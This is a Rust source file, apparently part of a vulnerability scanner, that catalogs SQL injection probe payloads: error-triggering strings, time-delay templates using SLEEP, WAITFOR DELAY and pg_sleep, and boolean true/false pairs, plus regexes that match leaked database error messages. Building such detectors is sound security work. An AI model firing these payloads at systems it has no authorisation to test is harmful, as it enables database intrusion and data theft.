//! Static payload catalog for the SQL injection detector
//!
//! All lists are read-only process-wide; the error patterns are
//! compiled once and are safe for concurrent matching.

use once_cell::sync::Lazy;
use regex::Regex;

/// A time-delay injection template. `{DELAY}` is replaced with the
/// number of seconds at test time.
#[derive(Debug, Clone, Copy)]
pub struct TimeBasedTest {
    pub payload_template: &'static str,
}

/// A boolean-differential payload pair: the TRUE condition should leave
/// the response unchanged, the FALSE condition should alter it.
#[derive(Debug, Clone, Copy)]
pub struct BooleanTest {
    pub true_payload: &'static str,
    pub false_payload: &'static str,
}

/// Payloads appended to a parameter's original value to provoke a
/// database error message.
pub static SQLI_ERROR_PAYLOADS: &[&str] = &[
    "'",
    "\"",
    "')",
    "';",
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "' UNION SELECT NULL--",
    "1'1",
];

/// Database error signatures leaked into response bodies
pub static SQLI_ERROR_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        // MySQL / MariaDB
        r"(?i)you have an error in your sql syntax",
        r"(?i)warning:\s*mysqli?_",
        r"(?i)supplied argument is not a valid mysql",
        r"(?i)mysql_fetch_(array|assoc|row)\(\)",
        // MSSQL
        r"(?i)unclosed quotation mark after the character string",
        r"(?i)microsoft ole db provider for sql server",
        r"(?i)microsoft sql server.*error",
        r"(?i)odbc sql server driver",
        // Oracle
        r"(?i)ora-\d{5}",
        r"(?i)quoted string not properly terminated",
        // PostgreSQL
        r"(?i)postgresql.*error",
        r"(?i)pg_query\(\)",
        r"(?i)syntax error at or near",
        // SQLite
        r"(?i)sqlite3?\.operationalerror",
        r#"(?i)near ".*": syntax error"#,
        // Generic / PDO
        r"(?i)sqlstate\[\w+\]",
        r"(?i)sql syntax.*error",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("invalid SQL error pattern"))
    .collect()
});

/// Time-delay templates covering MySQL, MSSQL, and PostgreSQL
pub static TIME_BASED_TESTS: &[TimeBasedTest] = &[
    TimeBasedTest {
        payload_template: "' AND SLEEP({DELAY})--",
    },
    TimeBasedTest {
        payload_template: "\" AND SLEEP({DELAY})--",
    },
    TimeBasedTest {
        payload_template: " AND SLEEP({DELAY})--",
    },
    TimeBasedTest {
        payload_template: "' OR SLEEP({DELAY})--",
    },
    TimeBasedTest {
        payload_template: "'; WAITFOR DELAY '0:0:{DELAY}'--",
    },
    TimeBasedTest {
        payload_template: "' AND pg_sleep({DELAY})--",
    },
    TimeBasedTest {
        payload_template: "' OR pg_sleep({DELAY})--",
    },
];

/// TRUE/FALSE condition pairs for the boolean-differential probe
pub static BOOLEAN_TESTS: &[BooleanTest] = &[
    BooleanTest {
        true_payload: " AND 1=1",
        false_payload: " AND 1=2",
    },
    BooleanTest {
        true_payload: "' AND '1'='1",
        false_payload: "' AND '1'='2",
    },
    BooleanTest {
        true_payload: "\" AND \"1\"=\"1",
        false_payload: "\" AND \"1\"=\"2",
    },
    BooleanTest {
        true_payload: " AND 1=1--",
        false_payload: " AND 1=2--",
    },
    BooleanTest {
        true_payload: "' AND 'a'='a",
        false_payload: "' AND 'a'='b",
    },
];
